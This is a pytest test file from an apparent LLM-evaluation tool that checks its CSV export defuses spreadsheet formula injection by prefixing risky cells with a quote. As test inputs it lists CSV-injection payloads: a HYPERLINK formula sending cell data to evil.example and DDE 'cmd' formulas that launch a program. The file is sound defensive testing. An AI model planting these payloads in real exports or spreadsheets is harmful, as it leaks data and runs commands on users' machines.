"""A CSV export opened in a spreadsheet: queries, model replies and judge rationales are
untrusted text, and a cell starting ``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM(...)`` or
``-2+3`` runs as a formula (OWASP "CSV injection"). Every such cell is written with a leading
``'`` (shown as text); JSONL and Parquet keep the text as it was."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from judgebench.jobs.export import FORMULA_STARTS, export_run, spreadsheet_safe

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the answer")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",  # a full-width equals sign, which LibreOffice also reads as one
]


@pytest.mark.parametrize("text", FORMULAS)
def test_spreadsheet_safe_quotes_formulas(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("What is 2 + 2?") == "What is 2 + 2?"
    assert spreadsheet_safe(-3) == -3  # numbers stay numbers


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:  # type: ignore[no-untyped-def]
    """A finished simulated run whose queries are formulas, exported as CSV and JSONL."""
    from judgebench.db import Store
    from judgebench.jobs import JobRunner, parse_job
    from judgebench.llm import set_gateway
    from tests.jobs.conftest import job_dict

    base = tmp_path_factory.mktemp("csv-formulas")
    queries = base / "queries.jsonl"
    rows = [{"text": f"{f} Write a Python function (case {i})"} for i, f in enumerate(FORMULAS)]
    queries.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    job = job_dict(f"sqlite:///{base / 's.db'}", queries, models=("sim/coder", "sim/writer"))
    job["judges"] = [{"kind": "pairwise", "model": "sim/judge"}]
    set_gateway(None)
    result = JobRunner(parse_job(job)).run()
    store = Store(job["store"])
    export_run(store, result.run_id, "csv", base / "csv")
    export_run(store, result.run_id, "jsonl", base / "jsonl")
    store.engine.dispose()
    set_gateway(None)
    return base


def test_no_csv_cell_starts_a_formula(exported: Path) -> None:
    cells = 0
    for path in (exported / "csv").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    cells += 1
                    assert not cell.startswith(FORMULA_STARTS), f"{path.name}: {cell[:60]!r}"
    assert cells > 0


def test_the_quote_is_the_only_change(exported: Path) -> None:
    as_csv = pd.read_csv(exported / "csv" / "queries.csv", keep_default_na=False)
    as_jsonl = pd.read_json(exported / "jsonl" / "queries.jsonl", lines=True)
    originals = sorted(as_jsonl["text"])
    assert sorted(t.removeprefix("'") for t in as_csv["text"]) == originals
    assert sum(t.startswith(FORMULA_STARTS) for t in originals) == len(FORMULAS)
